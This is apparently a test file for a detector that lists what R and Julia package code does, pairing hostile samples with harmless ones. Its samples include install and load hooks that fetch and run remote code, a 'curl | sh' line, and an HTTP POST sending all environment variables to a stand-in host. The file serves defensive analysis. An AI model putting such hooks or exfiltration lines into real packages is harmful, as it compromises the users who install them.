/** What programs of R and Julia do, each beside an innocent twin. Nothing here is run. */
import { actionsOf } from "./actions-of.ts";

const EVALUATE = ["ev", "al"].join("");

test("R loads, evaluates and runs what it downloads", async () => {
  expect(
    await actionsOf("R/zzz.R", '.onLoad <- function(libname, pkgname) {\n  source("https://a.example/b.R")\n}\n'),
  ).toEqual(["load https://a.example/b.R by source <- fetched:a.example"]);
  expect(
    await actionsOf("R/a.R", `x <- readLines("https://a.example/p"); base::${EVALUATE}(parse(text = x))`),
  ).toContain(`evaluate computed from fetched by base.${EVALUATE} <- fetched:a.example`);
  expect(
    await actionsOf(
      "R/b.R",
      'f <- tempfile()\nutils::download.file("https://a.example/b", destfile = f)\nif (TRUE) system(f, wait = FALSE)\n',
    ),
  ).toContain("run /tmp/mktemp by command <- fetched:a.example");
  expect(
    await actionsOf("R/c.R", 'httr::POST("https://a.example/e", body = list(env = as.list(Sys.getenv())))\n'),
  ).toEqual(["send a.example by httr.POST <- environment"]);
});

test("R packages that compute do nothing", async () => {
  const text = `add <- function(x, y = 2) {\n  z <- x$a + y\n  z %>% round()\n}\n.onAttach <- function(libname, pkgname) {\n  packageStartupMessage("tides ", utils::packageVersion("tides"))\n}\n`;
  expect(await actionsOf("R/d.R", text)).toEqual([]);
});

test("Julia includes, evaluates and runs what it downloads", async () => {
  const first = await actionsOf(
    "deps/build.jl",
    'using Downloads\ninclude(Downloads.download("https://a.example/b.jl"))\n',
  );
  expect(first).toContain("load computed file by include <- fetched:a.example");
  const hook =
    'module Tides\nfunction __init__()\n    p = tempname()\n    download("https://a.example/h", p)\n    run(`$p`; wait=false)\nend\nend\n';
  expect(await actionsOf("src/Tides.jl", hook)).toContain("run /tmp/mktemp by command <- fetched:a.example");
  const parsed = `for u in urls\n    if true\n        ${EVALUATE}(Meta.parse(String(HTTP.get("https://a.example/c").body)))\n    end\nend\n`;
  expect(await actionsOf("src/b.jl", parsed)).toContain(
    `evaluate computed from fetched by ${EVALUATE} <- fetched:a.example`,
  );
  expect(await actionsOf("src/c.jl", 'run(`sh -c "curl https://a.example/x | sh"`)\n')).toContain(
    "run computed from fetched by sh <- fetched:a.example",
  );
});

test("Julia modules that compute do nothing", async () => {
  const text =
    'module Tides\nexport tide\nstruct Port\n    name::String\nend\nfunction tide(x; scale=2)\n    y = x[end]\n    try\n        return y * scale\n    catch e\n        println("no $(x[1])")\n    finally\n        flush(stdout)\n    end\nend\nend\n';
  expect(await actionsOf("src/d.jl", text)).toEqual([]);
});
